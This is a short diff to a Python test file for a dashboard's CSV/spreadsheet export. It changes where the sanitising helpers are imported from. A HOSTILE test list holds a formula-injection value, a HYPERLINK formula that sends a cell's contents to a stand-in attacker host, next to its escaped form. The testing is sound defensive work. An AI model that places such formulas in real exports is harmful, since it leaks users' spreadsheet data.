@@ -6,7 +6,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dashboard.app.downloads import csv_bytes, neutralised_text, spreadsheet_safe, zip_bytes
+from dashboard.app.downloads import csv_bytes, zip_bytes
+from dashboard.spreadsheet import neutralised_text, spreadsheet_safe
 
 HOSTILE = [
     ('=HYPERLINK("http://evil.example/?d="&A1,"click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'),
